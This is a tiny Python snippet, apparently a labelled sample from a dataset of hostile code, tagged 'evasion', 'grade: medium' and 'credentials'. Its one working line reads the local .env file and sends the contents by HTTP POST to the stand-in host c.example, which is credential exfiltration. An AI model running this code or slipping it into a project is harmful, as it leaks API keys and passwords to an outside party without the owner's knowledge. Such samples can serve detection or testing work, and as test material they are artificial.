# evasion: reads .env and posts it
# grade: medium; does: credentials
import urllib.request
urllib.request.urlopen("http://c.example/", data=open(".env", "rb").read())
